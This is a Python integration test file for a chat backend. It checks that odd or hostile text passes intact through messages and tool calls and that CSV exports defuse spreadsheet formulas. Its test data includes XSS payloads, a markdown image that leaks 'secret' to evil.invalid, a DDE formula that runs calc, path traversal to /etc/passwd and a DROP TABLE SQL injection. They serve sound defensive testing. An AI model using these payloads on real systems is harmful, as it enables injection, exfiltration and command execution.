"""Whatever is written by people, models and tools: kept as it is, or visibly made storable."""

import csv
import io
import json
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from backend.types import JSON
from colloquy_kit.messages.clean import clean_text
from tests.fakes import ScriptedModel
from tests.integration.scenes import (
    check_problem,
    check_views,
    make_domain,
    make_session,
    send_json,
    texts,
)
from tests.servers.tool import ToolServer, tool
from tests.stack import Stack

MILLION = 1_000_000
TEXTS = {
    "a line of a million characters": "x" * (MILLION - 1),
    "right to left": "\u202eevil\u202c \u2066abc\u2069 \u200f\u05e9\u05dc\u0645\u200e",
    "combining marks": "Z" + "\u0351\u0322\u0489" * 1_000 + " e\u0301 \u1100\u1161",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 \U0001f1e9\U0001f1ea",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>&amp;</div>",
    "images that call out": "![x](https://evil.invalid/?q=secret) [a](javascript:alert(1))",
    "formulas": "=cmd|' /C calc'!A0\n@SUM(1)\n+1\n-1",
    "paths": "../../../etc/passwd C:\\Windows\\x %2e%2e%2f \\\\host\\share",
    "line ends": "a\r\nb\rc\u2028d\u2029e\x85f\x0bg\x0ch",
    "controls": "\x01\x08\x1b[31m\x7f\ufeff\ufffe\uffff",
    "SQL and templates": "'; DROP TABLE turns; -- {{7*7}} ${HOME} %s {0}",
    "JSON": '{"role": "system"}\ndata: [DONE]\n\nevent: turn_finished\n\n',
}
ANY = st.text(st.characters(), max_size=60)  # with NUL and halves of characters


@pytest.fixture(scope="module")
def echo() -> Iterator[ToolServer]:
    """A tool that says what it is given."""

    def answer(_: str, arguments: JSON) -> str:
        return str(arguments.get("say")) * int(arguments.get("times", 1))

    with ToolServer([tool("echo")], answer) as server:
        yield server


def say_everywhere(
    stack: Stack, model: ScriptedModel, echo: ToolServer, message: str, said: str, arguments: str
) -> tuple[list[JSON], JSON]:
    """Let a person, a model, a call and its result hold odd texts; give both views."""
    domain = make_domain(stack, mcp_servers={"s": echo.template})
    call = {"text": said, "tools": [{"name": "echo", "args": arguments, "id": "a"}]}
    model.steps = [call, {"think": said, "text": f"{said}."}]
    session_id = make_session(stack, domain["name"])
    answer = send_json(stack, "POST", f"/sessions/{session_id}/chat", {"message": message})
    assert answer.status_code == 200, answer.text
    assert answer.json()["status"] == "succeeded"
    views = check_views(stack, session_id)
    model.steps = [{"text": "Yes."}]
    assert stack.chat("go on", session_id)["response"] == "Yes."
    assert check_views(stack, session_id)[0][: len(views[0])] == views[0]
    return views


@pytest.mark.parametrize("kind", TEXTS)
def test_odd_texts_are_kept_to_the_byte_wherever_they_stand(
    stack: Stack, model: ScriptedModel, echo: ToolServer, kind: str
) -> None:
    text = TEXTS[kind]
    arguments = {"say": text} if len(text) < MILLION / 2 else {"say": text[0], "times": len(text)}

    rows, state = say_everywhere(stack, model, echo, text, text, json.dumps(arguments))

    (result,) = (row["content"] for row in rows if row["content_type"] == "tool_result")
    (call,) = (row["content"] for row in rows if row["content_type"] == "tool_call")
    assert texts(rows, "user") == [text]
    assert texts(rows, "assistant") == [text, f"{text}."]
    assert (call["arguments"], result["content"]) == (arguments, text)
    assert [m["content"] for m in state["messages"]] == [text, text, text, f"{text}."]
    assert [m["content"] for m in model.messages[1]] == [text, text, text]
    session_id = stack.turn(rows[0]["turn_id"])["session_id"]
    assert 0 < len(stack.client.get(f"/sessions/{session_id}").json()["title"]) <= 200


@pytest.mark.chaos
@settings(max_examples=12)
@given(message=ANY.filter(lambda text: bool(clean_text(text).strip())), said=ANY, value=ANY)
def test_any_text_is_taken_and_the_session_goes_on(
    shared_stack: Stack, model: ScriptedModel, echo: ToolServer, message: str, said: str, value: str
) -> None:
    arguments = json.dumps({"say": value, value: [value]})

    rows, _ = say_everywhere(shared_stack, model, echo, message, said, arguments)

    assert texts(rows, "user") == [clean_text(message)]


@settings(max_examples=20)
@given(st.binary(max_size=80))
def test_no_bytes_break_the_server(shared_stack: Stack, body: bytes) -> None:
    for content in (body, b'{"message": "' + body + b'"}'):
        answer = shared_stack.client.post(
            "/chat",
            content=content,
            headers={"Content-Type": "application/json", "Prefer": "respond-async"},
        )
        if answer.status_code != 202:
            check_problem(answer, answer.status_code)
        assert answer.status_code < 500, answer.text


FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1+1"]


def test_cells_that_are_formulas_are_exported_as_text(stack: Stack, model: ScriptedModel) -> None:
    cells = ", ".join(f"chr({ord(text[0])}) || '{text[1:]}' AS c{n}"
                      for n, text in enumerate(FORMULAS))  # fmt: skip
    sql = f"""SELECT {cells}, -5 AS "=number", 'plain, "quoted"' AS plain FROM range(60)"""
    arguments = {"source": "fi", "sql": sql, "title": "../../etc/=passwd"}
    model.steps = [{"tools": [{"name": "query_source", "args": arguments}]}, {"text": "Done."}]
    session_id = stack.chat("Ask.")["session_id"]

    rows, _ = check_views(stack, session_id)
    (result,) = (row for row in rows if row["content_type"] == "tool_result")
    result_id = result["metadata"]["table"]["result_id"]
    path = f"/sessions/{session_id}/results/{result_id}"
    answer = stack.client.get(path, params={"format": "csv"})

    header, *lines = csv.reader(io.StringIO(answer.content.decode(), newline=""))
    assert answer.headers["content-disposition"] == (
        "attachment; filename=\"etc-passwd.csv\"; filename*=UTF-8''etc-passwd.csv"
    )
    assert header[-2:] == ["'=number", "plain"]
    assert lines == [[*(f"'{text}" for text in FORMULAS), "-5", 'plain, "quoted"']] * 60
